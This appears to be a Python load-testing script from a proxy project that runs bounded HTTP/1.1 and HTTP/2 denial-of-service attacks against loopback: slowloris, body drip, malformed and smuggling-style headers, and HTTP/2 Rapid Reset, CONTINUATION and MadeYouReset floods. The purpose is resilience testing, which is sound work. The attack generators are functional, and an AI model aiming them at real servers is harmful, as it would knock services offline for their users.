#!/usr/bin/env python3
"""What a hostile caller does, bounded in connections, in bytes and in time, against loopback alone.

    python3 perf/attacks.py h2-ping PORT SECONDS          prints one line of JSON when it is over
    python3 perf/attacks.py sink PORT AFTER_MS            reads, and ends each connection by itself

An attack is a script per connection: what to send, and how long to wait before the next. The rig
runs it as a process of its own beside legitimate load. Aimed at the sink, the same script shows what
the generator alone costs, because it shares its core with the load.
"""

import asyncio
import collections
import dataclasses
import itertools
import json
import select
import socket
import statistics
import struct
import sys
import time

# How long one hostile connection is held by the attacker; the deadlines of the proxies in these
# scenarios are shorter, so that one that is left is one that the proxy keeps.
LIFE_SECONDS = 6.0
# For bodies that drip: a least rate is judged over ten seconds, by those who have one.
DRIP_LIFE_SECONDS = 13.0
CONNECT_SECONDS = 3.0
RECEIVE_BYTES = 65536
LOOK_SECONDS = 0.2

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0, 1, 2, 3, 4, 6, 7, 8, 9)
END_STREAM = ACK = 1
END_HEADERS = 4
CODES = ("NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
         "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
         "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED")


def frame(kind, flags, stream, payload=b""):
    """One frame of RFC 9113 4.1."""
    head = struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream)
    return head + payload


def block(path="/1k", method="GET"):
    """A field block without Huffman and without the dynamic table (RFC 7541 6.2.2)."""
    verb = {"GET": b"\x82", "POST": b"\x83"}[method]
    path = path.encode()
    return verb + b"\x86\x04" + bytes((len(path),)) + path + b"\x01\x09localhost"


def opening(settings=b""):
    return PREFACE + frame(SETTINGS, 0, 0, settings)


def streams():
    """The stream ids of a client."""
    return itertools.count(1, 2)


def request(stream, path="/1k", end=END_STREAM):
    return frame(HEADERS, END_HEADERS | end, stream, block(path, "GET" if end else "POST"))


class FrameReader:
    """Walks a server's frames in any split, and keeps what says how the connection was ended."""

    def __init__(self):
        self.rest = b""
        self.skip = 0
        self.goaway = None
        self.resets = 0

    def feed(self, data):
        data = self.rest + data
        while True:
            step = min(self.skip, len(data))
            data, self.skip = data[step:], self.skip - step
            if len(data) < 9:
                break
            length, kind = int.from_bytes(data[:3], "big"), data[3]
            if kind == GOAWAY:
                if len(data) < 17:
                    break
                # The last one counts: a polite ending announces itself first.
                code = int.from_bytes(data[13:17], "big")
                self.goaway = CODES[code] if code < len(CODES) else str(code)
            self.resets += kind == RST_STREAM
            self.skip = 9 + length
        self.rest = data

    def told(self):
        if self.goaway:
            return f"GOAWAY {self.goaway}"
        return "streams reset" if self.resets else "no word"


class StatusReader:
    """The status of the last HTTP/1.1 response that begins at the start of what is received."""

    def __init__(self):
        self.status = None

    def feed(self, data):
        if data.startswith(b"HTTP/1.1 ") and data[9:12].isdigit():
            self.status = data[9:12].decode()

    def told(self):
        return self.status or "no word"


def header_drip(_):
    yield b"GET /1k HTTP/1.1\r\nHost: localhost\r\n", 0.4
    for number in itertools.count():
        yield b"X-%d: a\r\n" % number, 0.4


def silence(_):
    while True:
        yield b"", 1.0


UPLOAD = b"POST /upload HTTP/1.1\r\nHost: localhost\r\n"


def body_drip(_):
    yield UPLOAD + b"Content-Length: 100000\r\n\r\n", 0.4
    while True:
        yield b"a", 0.4


def cycled(first, parts):
    """A script that sends one of the parts, by the connection's number, and waits."""
    def script(number):
        yield first + parts[number % len(parts)], LIFE_SECONDS
    return script


BAD_HEADS = (
    b"\x00\x01\x02\x03\xff\xfe garbage\r\n\r\n",
    b"GET /1k HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
    b"GET /1k HTTP/1.1\r\nHost : a\r\n\r\n",
    b"POST /1k HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\nabc",
    b"POST /1k HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"
    b"0\r\n\r\n",
    b"GET /1k HTTP/1.1\r\nHost: a\r\nX: a\x00b\r\n\r\n",
    b"GET /1k HTTP/1.1\r\nHost: a\r\n folded: b\r\n\r\n",
    b"GET /1k HTTP/1.1\r\nHost: a\r\nX: " + b"a" * 40_000 + b"\r\n\r\n",
)
BAD_CHUNKS = (
    b"5\r\nhelloXX\r\n0\r\n\r\n", b"-5\r\nhello\r\n0\r\n\r\n", b"0x5\r\nhello\r\n0\r\n\r\n",
    b"fffffffffffffffff\r\nhello\r\n", b"5\nhello\r\n0\r\n\r\n", b"5;" + b"e" * 5000 + b"\r\n",
)


def unread_answers(_):
    yield b"GET /1m HTTP/1.1\r\nHost: localhost\r\n\r\n" * 50, LIFE_SECONDS


def flood(one, each=250, pause=0.25):
    """The same frames again and again: a thousand a second on one connection."""
    def script(_):
        yield opening() + one * each, pause
        while True:
            yield one * each, pause
    return script


def rapid_reset(_):
    """CVE-2023-44487."""
    ids = streams()
    first = opening()
    while True:
        yield first + b"".join(
            request(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            for stream in itertools.islice(ids, 250)), 0.25
        first = b""


def continuations(size):
    """CVE-2024-27316 and its kin: a block that never ends, in fragments of this many bytes."""
    # A field that is never indexed, again and again: decodable, so that only its length is wrong.
    field = b"\x10\x01a\x01b"
    fragment = (field * (size // len(field) + 1))[:size // len(field) * len(field)]

    def script(_):
        yield opening() + frame(HEADERS, END_STREAM, 1, block()), 0.02
        while True:
            # Sixteen KiB are a lot for a script's share of the core; empty ones cost nothing.
            yield frame(CONTINUATION, 0, 1, fragment) * (16 if size else 250), 0.25
    return script


def on_a_stream(make):
    """A flood of frames that need a stream which stays open: an upload that never comes."""
    def script(_):
        first = opening() + request(1, "/upload", end=0)
        while True:
            yield first + make(1) * 250, 0.25
            first = b""
    return script


WINDOW = lambda increment: struct.pack(">I", increment)
# CVE-2025-8671: what makes the server reset a stream whose request it has already passed on.
PROVOCATIONS = {
    "WINDOW_UPDATE of 0": lambda s: frame(WINDOW_UPDATE, 0, s, WINDOW(0)),
    "window overflow": lambda s: frame(WINDOW_UPDATE, 0, s, WINDOW(2**31 - 1)),
    "DATA after the end": lambda s: frame(DATA, 0, s, b"a"),
    "HEADERS after the end": lambda s: request(s),
    "PRIORITY of 4 bytes": lambda s: frame(PRIORITY, 0, s, b"\0\0\0\0"),
    "PRIORITY on itself": lambda s: frame(PRIORITY, 0, s, struct.pack(">IB", s, 1)),
}


def provoked_resets(number):
    provoke = list(PROVOCATIONS.values())[number % len(PROVOCATIONS)]
    ids = streams()
    first = opening()
    while True:
        yield first + b"".join(
            request(stream) + provoke(stream) for stream in itertools.islice(ids, 100)), 0.25
        first = b""


def zero_window(count, path):
    """Answers asked for, and SETTINGS_INITIAL_WINDOW_SIZE of 0 for them."""
    asked = b"".join(request(stream, path) for stream in itertools.islice(streams(), count))

    def script(_):
        yield opening(struct.pack(">HI", 4, 0)) + asked, LIFE_SECONDS
    return script


def half_block(_):
    yield opening() + frame(HEADERS, END_STREAM, 1, block()), LIFE_SECONDS


def h2_body_drip(_):
    yield opening() + b"".join(
        request(stream, "/upload", end=0) for stream in itertools.islice(streams(), 10)), 0.4
    while True:
        yield b"".join(frame(DATA, 0, stream, b"a")
                       for stream in itertools.islice(streams(), 10)), 0.4


@dataclasses.dataclass(frozen=True)
class Attack:
    """One attack: its script, how many connections it begins a second and has at most."""
    title: str
    script: object
    rate: int
    most: int
    reads: bool = True
    # How each ending is told apart, where connections differ.
    kinds: tuple = ("",)
    life: float = LIFE_SECONDS
    # When the sink ends a connection by itself: about when a careful proxy would.
    sink_ms: int = 0

    def reader(self, h2):
        """Of what the proxy says to one connection."""
        return FrameReader() if h2 else StatusReader()


SLOW = {"rate": 200, "most": 500, "sink_ms": 2000}
BURST = {"rate": 200, "most": 200}
FLOOD = {"rate": 20, "most": 10}
ATTACKS = {
    "h1-header-drip": Attack("a header field every 0.4 s (slowloris)", header_drip, **SLOW),
    "h1-silence": Attack("connections that say nothing", silence, **SLOW),
    "h1-body-drip": Attack("a byte of body every 0.4 s", body_drip, 100, 200,
                           life=DRIP_LIFE_SECONDS, sink_ms=10_000),
    "h1-bad-heads": Attack("malformed heads", cycled(b"", BAD_HEADS), **BURST),
    "h1-bad-chunks": Attack("malformed chunks", cycled(
        UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n", BAD_CHUNKS), **BURST),
    "h1-unread": Attack("fifty answers of 1 MiB asked for and not read", unread_answers, 50, 200,
                        reads=False, sink_ms=4000),
    "h2-rapid-reset": Attack("streams begun and reset at once", rapid_reset, **FLOOD),
    "h2-continuation-empty": Attack("empty CONTINUATION", continuations(0), **FLOOD),
    "h2-continuation-16k": Attack("CONTINUATION of 16 KiB", continuations(16384), **FLOOD),
    "h2-ping": Attack("PING", flood(frame(PING, 0, 0, b"12345678")), **FLOOD),
    "h2-settings": Attack("SETTINGS", flood(frame(SETTINGS, 0, 0)), **FLOOD),
    "h2-window": Attack("WINDOW_UPDATE of 1", flood(frame(WINDOW_UPDATE, 0, 0, WINDOW(1))),
                        **FLOOD),
    "h2-empty-data": Attack("DATA that holds nothing",
                            on_a_stream(lambda s: frame(DATA, 0, s)), **FLOOD),
    "h2-made-reset": Attack("resets that the server is made to send (MadeYouReset)",
                            provoked_resets, kinds=tuple(PROVOCATIONS), **FLOOD),
    "h2-zero-window": Attack("forty answers of 1 MiB and no window for them",
                             zero_window(40, "/1m"), 20, 20, sink_ms=4000),
    # Two thousand streams: more than a gateway may open connections to one origin.
    "h2-hoard": Attack("a hundred answers of 64 KiB and no window for them",
                       zero_window(100, "/64k"), 20, 20, sink_ms=4000),
    "h2-half-block": Attack("a field block that never goes on", half_block, **SLOW),
    "h2-body-drip": Attack("ten bodies, a byte of each every 0.4 s", h2_body_drip, 50, 50,
                           life=DRIP_LIFE_SECONDS, sink_ms=10_000),
}


@dataclasses.dataclass
class Tally:
    """What became of the connections of one attack."""
    begun: int = 0
    refused: int = 0
    bytes_sent: int = 0
    endings: collections.Counter = dataclasses.field(default_factory=collections.Counter)
    lasted: list = dataclasses.field(default_factory=list)
    # Those that the attacker itself left when its time was over, too young to judge.
    unjudged: int = 0

    def figures(self):
        return {
            "begun": self.begun, "refused": self.refused, "bytes_sent": self.bytes_sent,
            "endings": dict(sorted(self.endings.items())), "unjudged": self.unjudged,
            "ended": sum(count for how, count in self.endings.items() if not how.endswith("kept")),
            "lasted_p50_s": statistics.median(self.lasted) if self.lasted else None,
            "lasted_max_s": max(self.lasted, default=None),
        }


def gone(one):
    """Whether the other side has ended a connection that is not read."""
    poll = select.poll()
    poll.register(one, select.POLLRDHUP)
    return any(seen & (select.POLLHUP | select.POLLERR | select.POLLRDHUP)
               for _, seen in poll.poll(0))


async def receive(one, reader):
    """Reads until the other side ends the connection, and tells how."""
    loop = asyncio.get_running_loop()
    try:
        while data := await loop.sock_recv(one, RECEIVE_BYTES):
            reader.feed(data)
        return "closed"
    except OSError:
        return "cut"


async def look(one):
    while not gone(one):
        await asyncio.sleep(LOOK_SECONDS)
    return "cut"


async def send(one, script, tally):
    loop = asyncio.get_running_loop()
    try:
        for data, pause in script:
            if data:
                await loop.sock_sendall(one, data)
                tally.bytes_sent += len(data)
            await asyncio.sleep(pause)
    except OSError:
        # Whoever waits for the end sees what was said last.
        pass
    await asyncio.Future()


async def attack_once(attack, number, h2, port, until, tally):
    loop = asyncio.get_running_loop()
    with socket.socket() as one:
        one.setblocking(False)
        if not attack.reads:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        try:
            await asyncio.wait_for(loop.sock_connect(one, ("127.0.0.1", port)), CONNECT_SECONDS)
        except (OSError, asyncio.TimeoutError):
            tally.refused += 1
            return
        begun = time.monotonic()
        reader = attack.reader(h2)
        sender = asyncio.create_task(send(one, attack.script(number), tally))
        end = asyncio.create_task(receive(one, reader) if attack.reads else look(one))
        left = min(begun + attack.life, until) - begun
        await asyncio.wait([end], timeout=max(0, left))
        sender.cancel()
        await asyncio.gather(sender, return_exceptions=True)
        kind = attack.kinds[number % len(attack.kinds)]
        kind = f"{kind}: " if kind else ""
        if end.done():
            how = end.result()
            tally.lasted.append(time.monotonic() - begun)
            tally.endings[f"{kind}{reader.told()}, {how}"] += 1
        else:
            end.cancel()
            await asyncio.gather(end, return_exceptions=True)
            if time.monotonic() - begun >= attack.life - LOOK_SECONDS:
                tally.endings[f"{kind}{reader.told()}, kept"] += 1
            else:
                tally.unjudged += 1


async def run(attack, h2, port, seconds):
    """Begins connections at the attack's rate while fewer than its most are open."""
    tally, running = Tally(), set()
    start = time.monotonic()
    until = start + seconds
    for number in itertools.count():
        due = start + number / attack.rate
        if due >= until:
            break
        await asyncio.sleep(max(0, due - time.monotonic()))
        if len(running) >= attack.most or time.monotonic() >= until:
            continue
        task = asyncio.create_task(attack_once(attack, tally.begun, h2, port, until, tally))
        tally.begun += 1
        running.add(task)
        task.add_done_callback(running.discard)
    await asyncio.gather(*running)
    return tally


async def sink(port, after_ms):
    """Ends a connection at what comes first, or after a while, whatever comes."""
    async def serve(reader, writer):
        try:
            if after_ms:
                end = time.monotonic() + after_ms / 1000
                while (left := end - time.monotonic()) > 0:
                    if not await asyncio.wait_for(reader.read(RECEIVE_BYTES), left):
                        break
            else:
                await reader.read(RECEIVE_BYTES)
        except (OSError, asyncio.TimeoutError):
            pass
        writer.close()

    async with await asyncio.start_server(serve, "127.0.0.1", port, backlog=1024) as server:
        await server.serve_forever()


def main(name, port, amount):
    if name == "sink":
        asyncio.run(sink(int(port), int(amount)))
        return
    tally = asyncio.run(run(ATTACKS[name], name.startswith("h2-"), int(port), float(amount)))
    print(json.dumps({**tally.figures(), "cpu_s": time.process_time()}), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:4])
